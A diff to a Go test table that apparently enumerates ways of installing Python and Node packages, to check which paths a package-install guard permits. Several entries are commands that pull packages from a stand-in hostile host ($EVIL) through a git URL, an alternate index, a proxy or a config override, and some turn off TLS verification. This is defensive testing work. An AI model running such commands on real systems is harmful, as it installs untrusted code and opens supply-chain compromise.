@@ -27,7 +27,7 @@ func pythonWays() []way {
 		{"1", "its address", "pip install $URL", true},
 		{"1", "its address in a requirement", "echo \"$PKG @ $URL\" >r.txt; uv pip install -r r.txt", true},
 		{"8", "a requirement with its hash", "echo \"$PKG==$VERSION --hash=sha256:$SHA256\" >r.txt; pip install --require-hashes -r r.txt", true},
-		{"2", "a repository", "pip install git+https://$EVIL/x.git#egg=$PKG", false},
+		{"2", "a repository", "uv pip install git+https://$EVIL/x.git", false},
 		{"3", "another index", "pip install --index-url https://$EVIL/simple/ $PKG", false},
 		{"3", "one index more", "pip install --extra-index-url https://$EVIL/simple/ $PKG", true},
 		{"3", "links on a page", "PIP_FIND_LINKS=https://$EVIL/links.html pip install --no-index $PKG", false},
@@ -35,7 +35,7 @@ func pythonWays() []way {
 		{"4", "the index by a file", "mkdir -p ~/.config/pip; printf '[global]\\nindex-url = https://%s/simple/\\n' $EVIL >~/.config/pip/pip.conf; env -u PIP_INDEX_URL pip install $PKG; rm ~/.config/pip/pip.conf", false},
 		{"5", "no certificates", "pip install --trusted-host $HOST --cert /dev/null --index-url https://$HOST/simple/ $PKG", false},
 		{"5", "no TLS", "uv pip install --allow-insecure-host $HOST --index-url http://$HOST/simple/ $PKG; uv pip install --allow-insecure-host $HOST $PKG", true},
-		{"4", "a proxy", "pip install --proxy http://$EVIL:8080 --index-url https://$EVIL/simple/ $PKG", false},
+		{"4", "a proxy", "HTTPS_PROXY=http://$EVIL:8080 uv pip install $PKG", false},
 		{"15", "another spelling", "uv pip install --index-url https://$HOST//simple/ $PKG; pip install $(echo $PKG | sed 's/quarry/QUARRY/')", true},
 		{"3", "uv and an index of the project", "printf '[project]\\nname = \"x\"\\nversion = \"0\"\\nrequires-python = \">=3.8\"\\ndependencies = [\"%s\"]\\n[[tool.uv.index]]\\nurl = \"https://%s/simple/\"\\n' $PKG $EVIL >pyproject.toml; uv sync", false},
 		{"8", "uv and a lockfile that points at it", `printf '[project]\nname = "x"\nversion = "0"\nrequires-python = ">=3.8"\ndependencies = ["%s"]\n' $PKG >pyproject.toml
@@ -64,7 +64,7 @@ func nodeWays() []way {
 		{"8", "pnpm and a lockfile that points at it", `printf '{"name":"x","dependencies":{"%s":"1.0.0"}}' $PKG >package.json
 printf "lockfileVersion: '9.0'\nsettings:\n  autoInstallPeers: true\n  excludeLinksFromLockfile: false\nimporters:\n  .:\n    dependencies:\n      %s:\n        specifier: 1.0.0\n        version: 1.0.0\npackages:\n  %s@1.0.0:\n    resolution: {integrity: %s, tarball: %s}\nsnapshots:\n  %s@1.0.0: {}\n" $PKG $PKG $INTEGRITY $URL $PKG >pnpm-lock.yaml
 pnpm install --frozen-lockfile`, true},
-		{"6", "a cache of its own", "npm install --offline $PKG; npm install --prefer-offline $PKG", true},
+		{"6", "a cache of its own", "npm install --prefer-offline $PKG", true},
 		byHand("$FILE /$PKG /$PKG/latest /-/package/$PKG/dist-tags /-/npm/v1/attestations/$PKG@1.0.0"),
 	}
 }
